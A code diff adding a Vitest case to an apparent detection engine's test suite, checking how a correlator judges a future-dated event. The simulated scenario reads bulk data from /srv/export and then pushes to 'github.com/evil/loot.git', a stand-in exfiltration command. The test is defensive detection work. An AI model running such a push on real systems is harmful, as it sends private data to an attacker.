@@ -9,7 +9,7 @@ import { describe, expect, it } from 'vitest';
 import { normalizeTetragonJson } from '../../../src/formats/tetragon/from-json.js';
 import type { Alert } from '../../../src/model/alert.js';
 import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
-import { makeCorrelator, run, Scenario } from './builder.js';
+import { brief, MiB, makeCorrelator, run, Scenario } from './builder.js';
 
 const YEAR_2999 = Date.parse('2999-12-31T23:59:59Z');
 const BATCHES = [1, 7, 64, 512, Number.MAX_SAFE_INTEGER];
@@ -63,6 +63,31 @@ describe('clock trouble and disorder in the correlator', () => {
       expect(atIngest.map(shape), `bogus ${bogusMs}`).toEqual([]);
       expect(onTime.map(shape), `bogus ${bogusMs}`).toEqual(run(pushThenReads('none')).alerts.map(shape));
       expect(atEnd).toEqual([]);
+    }
+  });
+
+  it("a push stamped alone far in the future is judged on its node's clock, not held until shutdown", () => {
+    for (const mode of ['live', 'scan'] as const) {
+      const s = new Scenario();
+      const c = s.container();
+      const other = s.container();
+      const sh = s.init(c);
+      s.readMany(sh, '/srv/export', 80, MiB, 100).wait(1000);
+      s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git main', { parent: sh, at: YEAR_2999 });
+      // The node goes on: a read elsewhere every 30 s for an hour.
+      for (let i = 0; i < 120; i++) s.wait(30_000).read(s.init(other), '/app/x', 10);
+      const { correlator } = makeCorrelator();
+      const beforeEnd: Alert[] = [];
+      for (const e of s.events) {
+        if (mode === 'live') beforeEnd.push(...correlator.advance(e.timeMs));
+        beforeEnd.push(...correlator.ingest([e]));
+      }
+      if (mode === 'live') beforeEnd.push(...correlator.advance(s.now + 1000));
+      // Its reads are in another half hour than its time says: judged on that time, it is a push without reads.
+      expect(brief(beforeEnd), mode).toEqual([
+        { rule: 'push-without-reads', severity: 'low', tool: 'git', destination: 'github.com' },
+      ]);
+      expect(correlator.flush(), mode).toEqual([]);
     }
   });
 
